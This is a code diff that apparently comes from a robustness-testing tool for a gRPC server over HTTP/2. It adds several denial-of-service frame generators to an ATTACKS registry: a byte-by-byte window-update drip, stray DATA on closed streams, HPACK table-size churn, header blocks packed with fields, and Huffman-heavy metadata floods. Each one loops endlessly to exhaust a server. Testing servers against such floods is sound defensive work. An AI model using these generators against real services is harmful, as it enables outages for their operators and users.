@@ -99,6 +99,22 @@ def window_update_flood() -> Iterator[bytes]:
         yield frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 1000
 
 
+def window_drip() -> Iterator[bytes]:
+    """Ask for large answers, and grant them byte by byte."""
+    block = request(b"/test.Service/Large")
+    for stream in range(1, 20, 2):
+        yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
+    while True:
+        yield frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 1000
+
+
+def stray_data() -> Iterator[bytes]:
+    """Data for a call that is over, again and again."""
+    yield frame(HEADERS, 5, 1, request(b"/no/Such"))
+    while True:
+        yield frame(DATA, 0, 1, bytes(200)) * 100
+
+
 def priority_flood() -> Iterator[bytes]:
     while True:
         yield frame(PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10") * 1000
@@ -110,6 +126,31 @@ def hpack_bomb() -> Iterator[bytes]:
     stream = 3
     while True:  # each byte stands for the four thousand
         yield frame(HEADERS, 5, stream, CALL + b"\xbe" * 12000)
+        stream += 2
+
+
+def table_flood() -> Iterator[bytes]:
+    """Header blocks that change the size of their table, thousands of times, and say nothing."""
+    stream = 1
+    while True:
+        yield frame(HEADERS, 5, stream, b"\x20" * 16000)
+        stream += 2
+
+
+def many_fields() -> Iterator[bytes]:
+    """Calls with as many fields as they may have, a byte each."""
+    stream = 1
+    while True:
+        yield frame(HEADERS, 5, stream, request(b"/no/Such") + b"\x90" * 350)
+        stream += 2
+
+
+def huffman_flood() -> Iterator[bytes]:
+    """Calls with as much metadata as they may have, in the code that takes longest to read."""
+    stream = 1
+    while True:
+        large = b"\x00\x01x" + b"\xff" + _length(9000)[1:] + b"\x18\xc6\x31\x8c\x63" * 1800
+        yield frame(HEADERS, 5, stream, request(b"/no/Such") + large)
         stream += 2
 
 
@@ -176,8 +217,13 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
         small_data_flood,
         padded_data_flood,
         window_update_flood,
+        window_drip,
+        stray_data,
         priority_flood,
         hpack_bomb,
+        table_flood,
+        many_fields,
+        huffman_flood,
         call_flood,
         unknown_method_flood,
         half_open_streams,
